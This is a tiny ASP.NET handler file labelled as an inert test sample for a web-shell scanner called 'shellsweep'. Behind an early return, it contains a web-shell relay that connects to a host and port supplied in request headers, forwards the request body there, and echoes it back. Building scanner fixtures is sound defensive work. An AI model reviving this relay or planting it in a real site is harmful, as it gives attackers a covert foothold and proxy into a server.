<%@ WebHandler Language="C#" Class="T" %>
// shellsweep test sample: inert, never functional
public class T : System.Web.IHttpHandler { public bool IsReusable { get { return false; } }
  public void ProcessRequest(System.Web.HttpContext context) { return;
    var c = new System.Net.Sockets.TcpClient(context.Request.Headers["X-T"], int.Parse(context.Request.Headers["X-P"]));
    byte[] b = context.Request.BinaryRead(context.Request.ContentLength); c.GetStream().Write(b, 0, b.Length);
    context.Response.BinaryWrite(b); } }
